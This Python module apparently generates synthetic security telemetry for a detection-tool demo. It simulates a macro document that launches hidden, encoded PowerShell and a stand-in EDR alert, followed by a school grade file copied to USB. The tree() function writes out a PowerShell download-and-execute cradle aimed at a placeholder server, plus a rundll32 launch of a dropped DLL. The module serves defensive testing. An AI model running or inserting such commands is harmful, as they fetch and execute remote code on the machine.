"""What happens today: a downloaded document that starts a process tree, the EDR's alert, and a copy to a USB stick."""

import base64
import hashlib
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

from hinomi.cli.demo import webfilter
from hinomi.cli.demo.generator import OFFICE, SYSMON, process, row, windows
from hinomi.cli.demo.world import Device, Person

WORD = f"{OFFICE}WINWORD.EXE"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
DOCUMENT = "校外研修のご案内.docm"
SERVER = "198.51.100.23"
COPIED = "C:\\校務\\成績\\2年1組_成績一覧.xlsx"
PAYLOAD_SHA1 = hashlib.sha1(b"hinomi demo: a harmless stand-in for the dropped file", usedforsecurity=False).hexdigest()


def _home(person: Person) -> str:
    return f"C:\\Users\\{person.account.rpartition(chr(92))[2]}"


def download(device: Device, person: Person, now: datetime) -> list[str]:
    """Return what the web filter sees of it: a page nobody has complained about yet, and the document."""
    page = f"http://{SERVER}/annai"
    more: dict[str, Any] = {
        "server": f"{SERVER}:80",
        "size": 48_128,
        "mime": "application/vnd.ms-word.document.macroEnabled.12",
    }
    return [
        webfilter.of(device, person, now, page, server=f"{SERVER}:80"),
        webfilter.of(device, person, now, f"{page}/{quote(DOCUMENT)}", referrer=page, **more),
    ]


def before(device: Device, person: Person, now: datetime) -> list[str]:
    """Return what precedes it: the download, and Word opening it. Nothing in it is forbidden."""
    document = f"{_home(person)}\\Downloads\\{DOCUMENT}"
    browser = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    command = f'"{WORD}" /n "{document}" /o ""'
    return [
        windows(device, now, SYSMON, 15, Image=browser, User=person.account, TargetFilename=f"{document}:Zone.Identifier",
                Contents=f"[ZoneTransfer] ZoneId=3 HostUrl=http://{SERVER}/annai"),
        process(device, person, now + timedelta(milliseconds=300), WORD, command, "C:\\Windows\\explorer.exe", Description="Microsoft Word",
                Company="Microsoft Corporation", OriginalFileName="WinWord.exe"),
    ]  # fmt: skip


def fetched(device: Device, person: Person, now: datetime) -> list[str]:
    """Return what the web filter sees of the script: what PowerShell fetches."""
    agent = "Mozilla%2F5.0+%28Windows+NT%3B+Windows+NT+10.0%3B+ja-JP%29+WindowsPowerShell%2F5.1.26100.1"
    return [
        webfilter.of(device, person, now, f"http://{SERVER}/a", mime="text/plain", server=f"{SERVER}:80", agent=agent)
    ]


def tree(device: Device, person: Person, now: datetime) -> list[str]:
    """Return the process tree: the first line is the one that shipped rules call critical."""
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{SERVER}/a')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    document = f"{_home(person)}\\Downloads\\{DOCUMENT}"
    dropped = f"{_home(person)}\\AppData\\Local\\Temp\\annai.dll"
    rundll = "C:\\Windows\\System32\\rundll32.exe"
    return [
        process(device, person, now, POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}", WORD, OriginalFileName="PowerShell.EXE",
                ParentCommandLine=f'"{WORD}" /n "{document}" /o ""'),
        windows(device, now + timedelta(milliseconds=20), SYSMON, 3, Image=POWERSHELL, User=person.account, Protocol="tcp", Initiated="true",
                SourceIp=device.ip, SourcePort=50211, DestinationIp=SERVER, DestinationPort=80),
        windows(device, now + timedelta(milliseconds=40), SYSMON, 11, Image=POWERSHELL, User=person.account, TargetFilename=dropped),
        process(device, person, now + timedelta(milliseconds=60), rundll, f"rundll32.exe {dropped},Run", POWERSHELL, OriginalFileName="RUNDLL32.EXE"),
    ]  # fmt: skip


def alert(device: Device, person: Person, now: datetime) -> dict[str, Any]:
    """Return the EDR's own alert, as its API keeps it."""
    user = person.account.rpartition("\\")[2]
    stamp = now.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"
    return {
        "severity": "High", "category": "Malware", "title": "An active 'Annai' malware was detected", "threatFamilyName": "Annai",
        "threatName": "TrojanDropper:O97M/Annai.A", "detectionSource": "WindowsDefenderAv", "machineId": device.machine,
        "description": "A document started a script interpreter that downloaded and ran a file.", "mitreTechniques": ["T1204.002", "T1059.001"],
        "firstEventTime": stamp, "lastEventTime": stamp, "alertCreationTime": stamp,
        "relatedUser": {"userName": user, "domainName": "AOBA"},
        "evidence": [
            {"entityType": "File", "sha1": PAYLOAD_SHA1, "fileName": "annai.dll", "filePath": f"{_home(person)}\\AppData\\Local\\Temp",
             "detectionStatus": "Detected"},
            {"entityType": "User", "accountName": user, "domainName": "AOBA"},
        ],
    }  # fmt: skip


def old_alert(device: Device, now: datetime) -> dict[str, Any]:
    """Return an alert of this morning that was settled already."""
    stamp = (now - timedelta(hours=4)).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"
    times = dict.fromkeys(
        ("firstEventTime", "lastEventTime", "alertCreationTime", "lastUpdateTime", "resolvedTime"), stamp
    )
    return {"severity": "Informational", "category": "UnwantedSoftware", "title": "A potentially unwanted application was blocked",
            "status": "Resolved", "detectionSource": "WindowsDefenderAv", "machineId": device.machine, "evidence": [], **times}  # fmt: skip


def usb(device: Device, person: Person, now: datetime) -> list[str]:
    """Return the rows of a class-Ⅱ file copied to a USB stick by somebody who may only read (P1)."""
    stick = {"c21": "USB Flash Disk", "c24": "0781:5581:4C53000131", "c38": "USBリムーバブル"}
    return [
        row(device, person, now, "ドライブ", c11="E:", c17="ドライブ接続", **stick),
        row(device, person, now, "ファイル操作", c17="ファイルコピー", c19=COPIED, c25=f"E:\\{COPIED.rpartition(chr(92))[2]}", c82="84992",
            c68="C:\\Windows\\explorer.exe", **stick),
    ]  # fmt: skip
